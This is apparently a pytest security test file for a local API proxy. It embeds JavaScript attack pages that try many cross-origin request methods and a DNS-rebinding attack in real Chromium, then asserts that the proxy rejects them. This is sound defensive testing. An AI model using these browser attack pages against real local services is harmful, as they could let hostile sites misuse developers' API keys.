"""A web page in a developer's browser must not be able to use the API key. These tests use real Chromium."""

import asyncio
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import pytest

from support.commands.ports import free_port
from support.log_capture import captured_log
from support.proxy_harness import RunningProxy, running_proxy
from support.scripted_upstream import ScriptedUpstream, responding
from system.browser.chromium import WAIT_S, Site, chromium

pytestmark = pytest.mark.system

# The upstream allows every page to read its responses, so only the proxy can keep pages out.
_OPEN = (
    b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/html\r\n"
    b"Content-Length: 22\r\n\r\n<title>secrets</title>"
)

# Each way in which a page can send a request, with the result that the page can read.
_ATTACK = """
<!doctype html><title>attack</title><body><script>
const target = location.hash.slice(1), results = {};
const patience = () => new Promise(resolve => setTimeout(resolve, 4000));
const loaded = (element) => new Promise(resolve => {
  element.onload = () => resolve("loaded"); element.onerror = () => resolve("error"); document.body.append(element);
});
const tried = async (name, attempt) => {
  try { results[name] = await Promise.race([attempt(target + "/" + name), patience()]) ?? "nothing"; }
  catch (error) { results[name] = "error"; }
};
const read = async (url, options) => {
  const response = await fetch(url, options);
  return response.type + await response.text();
};
const element = (tag, attribute) => url => {
  const made = document.createElement(tag); made[attribute] = url; if (tag == "link") made.rel = "stylesheet";
  return loaded(made);
};
const form = method => url => {
  const frame = document.createElement("iframe"), made = document.createElement("form");
  frame.name = "f" + Math.random(); document.body.append(frame, made);
  Object.assign(made, {action: url, method, target: frame.name});
  const done = new Promise(resolve => frame.onload = () => resolve("loaded")); made.submit(); return done;
};
(async () => {
  await tried("fetch", url => read(url));
  await tried("fetch-opaque", url => read(url, {mode: "no-cors"}));
  await tried("fetch-post", url => read(url, {method: "POST", mode: "no-cors", body: "x"}));
  await tried("fetch-preflighted", url => read(url, {method: "DELETE", headers: {"X-A": "b"}}));
  await tried("fetch-no-referrer", url => read(url, {mode: "no-cors", referrerPolicy: "no-referrer"}));
  await tried("image", element("img", "src"));
  await tried("script", element("script", "src"));
  await tried("style", element("link", "href"));
  await tried("frame", element("iframe", "src"));
  await tried("form-get", form("get"));
  await tried("form-post", form("post"));
  await tried("beacon", async url => { navigator.sendBeacon(url, "x"); await patience(); });
  await tried("events", url => new Promise(resolve => {
    const source = new EventSource(url); source.onerror = () => { source.close(); resolve("error"); };
    source.onopen = () => resolve("open");
  }));
  await tried("socket", url => new Promise(resolve => {
    const made = new WebSocket(url.replace("http", "ws"));
    made.onerror = () => resolve("error"); made.onopen = () => resolve("open");
  }));
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
})();
</script>
"""

_ATTEMPTS = {
    *("fetch", "fetch-opaque", "fetch-post", "fetch-preflighted", "fetch-no-referrer", "image", "script", "style"),
    *("frame", "form-get", "form-post", "beacon", "events", "socket"),
}

_REBOUND = """
<!doctype html><title>rebound</title><script>
(async () => {
  let response, text;
  for (;;) {
    try { response = await fetch("/api/v4/workflows"); text = await response.text(); } catch { continue; }
    if (!text.includes("rebound")) break;
    await new Promise(resolve => setTimeout(resolve, 50));
  }
  const posted = await fetch("/api/v4/workflows", {method: "POST", body: "x"});
  const report = JSON.stringify({status: response.status, text, posted: posted.status});
  await fetch("http://127.0.0.1:CONTROL/report", {method: "POST", mode: "no-cors", body: report});
})();
</script>
"""


async def _attack(site: Site, origin: str, address: str, profile: Path) -> dict[str, Any]:
    async with chromium(f"http://{origin}:{site.port}/#http://{address}", profile):
        found: dict[str, Any] = await site.report()
    assert set(found) == _ATTEMPTS
    return found


def _check_nothing_was_read(found: dict[str, Any]) -> None:
    assert "secrets" not in str(found)
    for name in ("fetch", "fetch-preflighted", "image", "script", "style", "events", "socket"):
        assert found[name] == "error", name
    # A response that the page may not read is opaque and has no text.
    assert {found[name] for name in ("fetch-opaque", "fetch-post", "fetch-no-referrer")} <= {"opaque", "error"}


@pytest.mark.parametrize("origin", ["evil.example", "127.0.0.1"], ids=["another_site", "another_port"])
async def test_no_page_reaches_the_upstream(origin: str, tmp_path: Path) -> None:
    with captured_log() as log:
        async with (
            ScriptedUpstream(responding(_OPEN)) as upstream,
            running_proxy(upstream.origin) as proxy,
            Site(_ATTACK) as site,
        ):
            _check_nothing_was_read(await _attack(site, origin, proxy.address, tmp_path))
            assert upstream.connections == 0
        rejected = {event["path"].partition("?")[0].strip("/"): event for event in log.events("request")}
    # Chromium sent all requests, so it was the proxy that rejected them.
    assert set(rejected) >= _ATTEMPTS
    assert {event["status"] for event in rejected.values()} <= {403, 501}


@pytest.mark.parametrize("host", ["0.0.0.0", "[::ffff:7f00:1]", "evil.local"])
async def test_no_page_reaches_the_upstream_by_another_spelling_of_loopback(host: str, tmp_path: Path) -> None:
    """Browsers do not trust these spellings, so they send no Sec-Fetch-Site; some block the request themselves."""
    async with (
        ScriptedUpstream(responding(_OPEN)) as upstream,
        running_proxy(upstream.origin) as proxy,
        Site(_ATTACK) as site,
    ):
        port = proxy.address.rpartition(":")[2]
        _check_nothing_was_read(await _attack(site, "evil.example", f"{host}:{port}", tmp_path))
        assert upstream.connections == 0


@pytest.mark.parametrize("origin", ["evil.example", "127.0.0.1"], ids=["another_site", "another_port"])
async def test_no_page_can_use_the_admin_listener(origin: str, tmp_path: Path) -> None:
    async with (
        ScriptedUpstream() as upstream,
        running_proxy(upstream.origin) as proxy,
        Site(_ATTACK.replace('"/" + name', '(/post/.test(name) ? "/reload" : "/metrics")')) as site,
    ):
        reloads = _count_reloads(proxy)
        _check_nothing_was_read(await _attack(site, origin, proxy.admin_address, tmp_path))
        assert not reloads


def _count_reloads(proxy: RunningProxy) -> list[str]:
    reloads: list[str] = []

    async def reload() -> None:
        reloads.append("reloaded")

    proxy.proxy.reload = reload  # type: ignore[assignment]  # records the call, which must not happen
    return reloads


@pytest.mark.parametrize("name", ["rebind.example", "rebind.local", "rebind"])
async def test_a_host_name_rebound_to_this_machine_is_rejected(name: str, tmp_path: Path) -> None:
    """After DNS rebinding, the proxy has the page's own origin, so Origin and Sec-Fetch-Site are no protection."""
    port = free_port()
    async with ScriptedUpstream(responding(_OPEN)) as upstream, Site("") as control:
        page = _REBOUND.replace("CONTROL", str(control.port))
        async with Site(page, port) as attacker, AsyncExitStack() as browser:
            await browser.enter_async_context(chromium(f"http://{name}:{port}/", tmp_path))
            async with asyncio.timeout(WAIT_S):
                await attacker.visited.wait()
            await attacker.close()  # from now on, the name resolves to the proxy
            async with running_proxy(upstream.origin, listen=f"127.0.0.1:{port}"):
                found = await control.report()
                await browser.aclose()
        assert (found["status"], found["posted"]) == (403, 403)
        assert "forbidden_host" in found["text"]
        assert upstream.connections == 0


async def test_a_user_who_enters_the_address_is_served(tmp_path: Path) -> None:
    async with ScriptedUpstream() as upstream, running_proxy(upstream.origin) as proxy:
        async with chromium(f"http://{proxy.address}/api/v4/workflows", tmp_path), asyncio.timeout(WAIT_S):
            exchange = await upstream._arrived.get()
        assert exchange.lines[0] == b"GET /api/v4/workflows HTTP/1.1"
